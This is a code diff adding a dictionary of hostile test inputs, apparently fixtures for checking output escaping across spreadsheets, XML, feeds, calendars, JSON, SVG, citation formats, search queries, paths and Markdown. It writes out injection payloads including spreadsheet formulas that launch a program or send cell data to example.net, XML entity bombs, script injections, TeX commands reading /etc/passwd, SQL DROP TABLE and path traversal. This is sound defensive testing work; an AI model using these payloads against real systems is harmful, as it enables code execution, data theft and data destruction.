@@ -156,3 +156,67 @@ LINKS = {
     "": False,
 }
 """Whether a mail may link to it."""
+
+FORMATS = {
+    # Spreadsheets
+    "formula": '=HYPERLINK("http://example.net/?"&A1,"open")',
+    "program": "=cmd|'/C calc'!A0",
+    "formula behind a sign": "+1+cmd|'/C calc'!A0",
+    "formula behind a minus": "-2+3+cmd|'/C calc'!A0",
+    "formula of old": "@SUM(1+1)*cmd|'/C calc'!A0",
+    "formula behind a tab": "\t=1+1",
+    "formula behind a return": "\r=1+1",
+    "formula of full width": "＝1＋1",
+    "cells": 'a","b"\r\n"=1+1","c;d\te',
+    "escapes of a sheet": "_x0000_ _x000D_ _x005F_x0041_",
+    "more than a cell holds": "a" * 40_000,
+    "number": "1e308",
+    "leading zero": "007",
+    # XML
+    "end of data section": "]]> <![CDATA[ ]]&gt;",
+    "declaration": '<?xml version="1.1" encoding="utf-7"?>',
+    "stylesheet": '<?xml-stylesheet href="//example.net/x.xsl"?>',
+    "entity": ENTITY + "&x;",
+    "laughs": LAUGHS + "&j;",
+    "references to nothing": "&#0;&#xFFFE;&#55296;&#x110000;",
+    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "namespace": '<a xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></a>',
+    # Feeds
+    "entry": "</summary></entry><entry><id>x</id></entry>",
+    "markup that is escaped twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    # Calendars
+    "event": "END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:other",
+    "calendar": "END:VCALENDAR\nBEGIN:VCALENDAR",
+    "alarm": "a\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:file:///bin/sh\nEND:VALARM",
+    "escapes of a calendar": "a\\n\\,\\;\\\\ b;X=1:2,3",
+    "parameter": 'a;ALTREP="http://example.net":b',
+    # JSON
+    "end of script": "</script><script>alert(1)</script>",
+    "prototype": '{"__proto__": {"a": 1}}',
+    "escapes of JSON": '\\u0000\\ud800 \\" \\\\',
+    "line ends of JavaScript": "a\u2028alert(1)\u2029",
+    # Pictures
+    "object": "</text><foreignObject><iframe src=//example.net></iframe></foreignObject>",
+    "use": '<use href="data:image/svg+xml,x#a"/><image href="http://example.net/x.png"/>',
+    "animation": '<animate onbegin="alert(1)" attributeName="x" dur="1s"/>',
+    "paint": "url(#x) url(http://example.net/x)",
+    # References
+    "end of a reference": "a}, note = {b}}\n@misc{x,",
+    "program of TeX": "\\write18{ls} \\input{/etc/passwd} %",
+    "end of a RIS record": "a\r\nER  - \r\nTY  - JOUR",
+    # Queries
+    "statement": "'; DROP TABLE announcement; --",
+    "always": "' OR '1'='1",
+    "operators": 'NEAR(a b, 2) OR NOT title:* ^a"b" (',
+    "wildcards": "%_[a-z]*?",
+    # Paths and headers
+    "path": "../../../../etc/passwd",
+    "path of Windows": "..\\..\\con:aux.txt",
+    "file name": 'a"; filename="b.exe',
+    "link of Markdown": "[a](javascript:alert(1)) ![b](http://example.net/x.png)",
+}
+"""What does harm in one of the formats in which lists and pages are served."""
+
+EVERY = [*TEXTS.values(), *FORMATS.values(), *LINKS, *ADDRESSES]
+EVERY += [f"国务院印发{text}的通知" for text in EVERY]
+"""All of them, each also in the middle of a title."""
